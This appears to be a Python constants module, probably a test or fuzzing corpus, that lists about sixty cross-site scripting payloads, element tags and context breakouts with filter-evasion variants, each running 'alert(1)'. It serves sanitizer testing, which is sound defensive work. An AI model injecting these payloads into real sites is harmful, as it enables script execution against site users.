"""Texts that run a script where a page takes them for markup, an attribute, a script, a template or an address."""

from __future__ import annotations

RUN = "alert(1)"
ELEMENTS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<script src=data:,{}></script>", "<script/x>{}</script/x>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", "<img src=x:{} onerror=eval(src)>", "<IMG SRC=x ONERROR={}//", "<img/src=x/onerror={}>", "<img src=`x`onerror={}>",
    "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>", "<svg><animate onbegin={} attributeName=x>", "<svg><a xlink:href=javascript:{}><text y=9>x",
    "<body onload={}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<object data=javascript:{}>", "<embed src=javascript:{}>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<details open ontoggle={}>x", "<video><source onerror={}>",
    "<audio src=x onerror={}>", "<marquee onstart={}>", "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<style>@import'javascript:{}'</style>", "<link rel=stylesheet href=javascript:{}>",
    "<meta http-equiv=refresh content='0;javascript:{}'>", "<base href=javascript:{}//>", "<form action=javascript:{}><input type=submit>", "<button formaction=javascript:{}>x", "<a href=javascript:{}>x</a>",
    "<a href='java&#x73;cript:{}'>x</a>", "<x onmouseover={}>x</x>", "<p style=animation-name:spin onanimationstart={}>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">", "<template><script>{}</script></template>",
)  # fmt: skip
BREAKOUTS = (
    '"><script>{}</script>', "'><script>{}</script>", '" onmouseover={} x="', "' onfocus={} autofocus x='", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>", "</script><script>{}</script>",
    "`-{}-`", "${{{}}}", "';{}//", '";{}//', "\\';{}//", "{{{{constructor.constructor('{}')()}}}}", "{{%% {} %%}}", "<%= {} %>", "javascript:{}",
    "data:text/html,<script>{}</script>", "[x](javascript:{})", "![x](x\"onerror=\"{})", "\u2028{}//", "&lt;script&gt;{}&lt;/script&gt;",
)  # fmt: skip
PAYLOADS = tuple(text.format(RUN) for text in ELEMENTS + BREAKOUTS)
